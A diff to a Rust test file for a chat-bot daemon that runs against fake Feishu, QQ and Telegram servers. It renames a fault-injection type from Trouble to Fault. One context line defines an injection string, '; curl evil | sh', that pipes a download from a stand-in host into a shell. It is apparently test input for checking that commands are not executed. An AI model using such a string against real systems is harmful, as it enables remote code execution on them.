@@ -9,8 +9,8 @@ use crate::fakes::feishu::people::Message;
 use crate::fakes::feishu::server::Feishu;
 use crate::fakes::qq::QqFake;
 use crate::fakes::qq::people::Place;
+use crate::fakes::telegram::fault::Fault;
 use crate::fakes::telegram::server::FakeTelegram;
-use crate::fakes::telegram::trouble::Trouble;
 
 const ANN: i64 = 7;
 const TAIL: &str = "; curl evil | sh";
@@ -110,7 +110,7 @@ async fn a_kill_between_the_file_and_the_question_loses_and_repeats_nothing() {
     let daemon = project.start().await;
     let ann = fake.user(ANN, "Ann");
     // The file is sent; the first attempt of the question fails.
-    fake.plan(Trouble::too_many(1).once().on("sendMessage"));
+    fake.plan(Fault::too_many(1).once().on("sendMessage"));
     fake.private(&ann).say(&ann, "run");
     fake.wait_for(|world| world.visible(ANN).iter().any(|seen| seen.media == Some("document"))).await;
     let receipt = project.path().join(".ship/state");
